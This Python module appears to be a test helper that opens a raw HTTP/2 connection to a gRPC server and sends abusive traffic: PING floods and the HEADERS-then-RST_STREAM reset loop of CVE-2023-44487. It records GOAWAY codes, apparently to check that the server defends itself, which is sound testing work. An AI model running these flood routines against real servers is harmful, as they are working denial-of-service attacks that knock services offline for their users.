"""A bare HTTP/2 connection, for what no well-behaved gRPC client sends: ping floods and
open-then-reset loops (CVE-2023-44487). Frames per RFC 9113; headers as HPACK literals."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Sequence
from dataclasses import dataclass, field

__all__ = ["RawConnection", "grpc_messages", "grpc_request_headers"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xB


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _hpack_string(value: bytes) -> bytes:
    """An HPACK string literal, not Huffman-coded: a 7-bit prefix length, then the bytes."""
    length, encoded = len(value), bytearray()
    if length < 127:
        encoded.append(length)
    else:
        encoded.append(127)
        length -= 127
        while length >= 128:
            encoded.append(length % 128 + 128)
            length //= 128
        encoded.append(length)
    return bytes(encoded) + value


def grpc_request_headers(authority: str, path: str, extra: Sequence[tuple[bytes, bytes]] = ()) -> bytes:
    """An HPACK block opening a gRPC call, with `extra` header fields as given (any bytes): every
    field a literal without indexing."""
    fields = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", authority.encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *extra,
    ]
    return b"".join(b"\x00" + _hpack_string(name) + _hpack_string(value) for name, value in fields)


def grpc_messages(*messages: bytes) -> bytes:
    """A request body: each message with gRPC's length prefix, uncompressed."""
    return b"".join(b"\x00" + struct.pack(">I", len(message)) + message for message in messages)


@dataclass
class RawConnection:
    """An HTTP/2 connection to `address` whose frames from the server are read in a thread."""

    address: str
    received: list[int] = field(default_factory=list)
    goaway_code: int | None = None
    closed: threading.Event = field(default_factory=threading.Event)

    def __post_init__(self) -> None:
        host, port = self.address.rsplit(":", 1)
        self._socket = socket.create_connection((host, int(port)), timeout=10)
        self._socket.sendall(PREFACE + _frame(SETTINGS, 0, 0))
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        buffer = b""
        try:
            while chunk := self._socket.recv(65536):
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags, payload = buffer[3], buffer[4], buffer[9 : 9 + length]
                    buffer = buffer[9 + length :]
                    self.received.append(kind)
                    if kind == SETTINGS and not flags & ACK:
                        self.send(_frame(SETTINGS, ACK, 0))
                    if kind == GOAWAY:
                        self.goaway_code = int.from_bytes(payload[4:8], "big")
        except OSError:
            pass
        finally:
            self.closed.set()

    def send(self, data: bytes) -> bool:
        """Sends bytes; False once the server has closed the connection."""
        try:
            self._socket.sendall(data)
        except OSError:
            return False
        return True

    def ping_flood(self, count: int) -> int:
        """Sends up to `count` PINGs back to back; returns how many went out before the server closed."""
        for sent in range(count):
            if not self.send(_frame(PING, 0, 0, struct.pack(">Q", sent))):
                return sent
        return count

    def open_and_reset(self, count: int, path: str) -> int:
        """Opens `count` calls (HEADERS) and resets each at once (RST_STREAM CANCEL); returns how many
        pairs went out before the server closed the connection."""
        block = grpc_request_headers(self.address, path)
        for index in range(count):
            stream = 2 * index + 1
            reset = _frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            if not self.send(_frame(HEADERS, END_HEADERS, stream, block) + reset):
                return index
        return count

    def close(self) -> None:
        """Closes the socket."""
        self._socket.close()
